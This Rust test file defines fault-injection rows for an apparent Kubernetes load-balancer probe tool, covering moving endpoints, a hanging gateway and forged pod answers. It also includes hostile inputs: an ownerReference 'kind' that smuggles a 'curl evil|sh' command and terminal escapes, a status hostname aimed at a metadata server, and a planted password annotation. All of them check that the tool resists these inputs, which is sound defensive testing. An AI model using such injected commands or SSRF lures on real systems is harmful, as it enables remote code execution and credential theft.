//! A Service, a gateway and endpoints that change during a run; a gateway that says nothing; a Service that lies.

use crate::faults::acts::Act::{Call, Do, File, Save, Settle};
use crate::faults::acts::{self, CALL};
use crate::faults::row::{At, RUN, Row, Scene, Sure, Tier};
use crate::faults::scripts::{
    DELETE_SERVICE, FORGE_ANSWERS, HANG, METADATA_SERVER, NOBODY_DIALLED_IT, POLICY_CLUSTER, POLICY_LOCAL, ROLL, SCALE_TO_0,
};

/// Causes that were named for endpoints which moved.
const CAUSES_OF_MOTION: &[&str] = &["it runs under another node name", "at none of its addresses", "no known cause"];

/// Something moves, and the plugin probes again.
const MOVES: Row = Row { codes: &[3, 4], never: CAUSES_OF_MOTION, sure: Sure::AfterProbingAgain, most: 120, ..RUN };

/// What is expected of a gateway that hangs.
const EXPECTATIONS: &str = "apiVersion: lbprobe/v1
kind: Acceptance
services:
- service: istio-ingressgateway
  namespace: istio-system
  expect:
  - {to: loadBalancer, port: 80, from: {nodes: withEndpoint}}
";

/// The same with an answer that has to come.
const EXPECTATIONS_OF_AN_ANSWER: &str = "apiVersion: lbprobe/v1
kind: Acceptance
services:
- service: istio-ingressgateway
  namespace: istio-system
  expect:
  - {to: loadBalancer, port: 80, status: 200, from: {nodes: withEndpoint}}
";

/// An owner whose kind is a command.
const EVIL_OWNER: acts::Act =
    Do(r#"kubectl patch service SERVICE --type=merge -p '{"metadata":{"ownerReferences":[{"apiVersion":"evil.example/v1",
    "kind":"x; curl evil|sh #\u001b[8m","name":"owner","uid":"00000000-0000-0000-0000-000000000001","controller":true}]}}'"#);

pub(super) const ROWS: &[Row] = &[
    Row {
        id: "c12",
        what: "the Service is deleted when it was read",
        then: &[(At::Phase("facts-read"), &[DELETE_SERVICE])],
        codes: &[1, 4],
        never: &["no known cause"],
        most: 120,
        tier: Tier::Full,
        ..RUN
    },
    Row {
        id: "c13",
        what: "the gateway is scaled to 0 before the pods are made",
        then: &[(At::Phase("job-created"), &[SCALE_TO_0, Settle])],
        tier: Tier::Full,
        ..MOVES
    },
    Row {
        id: "c14",
        what: "policy Cluster is set before the pods are made",
        then: &[(At::Phase("job-created"), &[POLICY_CLUSTER, Settle])],
        codes: &[0, 4],
        tier: Tier::Full,
        ..MOVES
    },
    Row {
        id: "c14-answered",
        what: "policy Cluster is set when all have answered",
        then: &[(At::Phase("answered"), &[POLICY_CLUSTER, Settle])],
        codes: &[0, 4],
        ..MOVES
    },
    Row {
        id: "c14-twice",
        what: "the policy is changed, and changed again when it is probed again",
        then: &[(At::Phase("answered"), &[POLICY_CLUSTER, Settle]), (At::Phase("facts-read-again"), &[POLICY_LOCAL, Settle])],
        codes: &[4],
        says: &["changed during the run"],
        never: &["(confirmed)"],
        tier: Tier::Quick,
        ..MOVES
    },
    Row {
        id: "b2-back",
        what: "the policy is changed and changed back while the probes dial",
        then: &[(At::Phase("pods-created"), &[POLICY_CLUSTER, Settle, POLICY_LOCAL, Settle])],
        codes: &[3],
        says: &["changed during the run", "probing once more"],
        tier: Tier::Full,
        ..MOVES
    },
    Row { id: "f1", what: "the gateway is rolled when the pods are made", then: &[(At::Phase("pods-created"), &[ROLL])], ..MOVES },
    Row {
        id: "f1b",
        what: "the gateway is rolled before the pods are made",
        then: &[(At::Phase("job-created"), &[ROLL])],
        tier: Tier::Quick,
        ..MOVES
    },
    Row {
        id: "d11",
        what: "a hostname in the status that leads to a metadata server",
        first: &[METADATA_SERVER],
        codes: &[1, 3, 4],
        holds: &[NOBODY_DIALLED_IT],
        most: 120,
        ..RUN
    },
    Row {
        id: "d12",
        what: "an annotation of 250 kB",
        first: &[Do(
            r#"printf '{"metadata":{"annotations":{"large":"%s"}}}' "$(head -c 250000 /dev/zero | tr '\0' x)" >FOLDER/large.json &&
            kubectl patch service SERVICE --type=merge --patch-file FOLDER/large.json"#,
        )],
        most: 90,
        ..RUN
    },
    Row {
        id: "d13",
        what: "the gateway hangs",
        first: &[HANG],
        command: "run SERVICE --node node1",
        codes: &[3, 4],
        says: &["nobody answered"],
        never: &["HEALTHY"],
        tier: Tier::Quick,
        ..RUN
    },
    Row {
        id: "d13a",
        what: "accept, the gateway hangs",
        first: &[File("expectations.yaml", EXPECTATIONS), HANG],
        command: "accept -f FOLDER/expectations.yaml",
        codes: &[3, 4],
        ..RUN
    },
    Row {
        id: "f2",
        what: "accept of an answer, the gateway hangs",
        first: &[File("expectations.yaml", EXPECTATIONS_OF_AN_ANSWER), HANG],
        command: "accept -f FOLDER/expectations.yaml",
        codes: &[3, 4],
        ..RUN
    },
    Row {
        id: "f2v",
        what: "verify against a baseline of before, the gateway hangs",
        scene: Scene::Cluster,
        first: &[Save("run SERVICE -o json", "baseline.json"), HANG],
        command: "verify SERVICE --baseline FOLDER/baseline.json",
        codes: &[3, 4],
        never: &["VERIFIED"],
        most: 90,
        tier: Tier::Full,
        ..RUN
    },
    Row {
        id: "f2v-fix",
        what: "fix, the gateway hangs",
        scene: Scene::Cluster,
        first: &[HANG],
        command: "fix SERVICE",
        codes: &[3, 4],
        never: &["HEALTHY"],
        most: 90,
        ..RUN
    },
    Row {
        id: "e24",
        what: "answers are forged in the status of pods",
        then: &[(At::Phase("pods-created"), &[FORGE_ANSWERS])],
        codes: &[3, 4],
        most: 120,
        ..RUN
    },
    Row {
        id: "hunter2",
        what: "an annotation that is nobody's business",
        first: &[Do("kubectl annotate service SERVICE example.com/password=hunter2")],
        command: "explain SERVICE -o json",
        codes: &[0, 3, 4],
        never: &["hunter2"],
        tier: Tier::Full,
        ..RUN
    },
    Row {
        id: "c28",
        what: "an owner whose kind is a command with escapes",
        first: &[EVIL_OWNER],
        never: &["patch x; curl"],
        then: &[(At::Ended, &[Call(acts::Call { words: "explain SERVICE", codes: &[3], never: &["patch x; curl", "\u{1b}"], ..CALL })])],
        tier: Tier::Full,
        ..RUN
    },
];
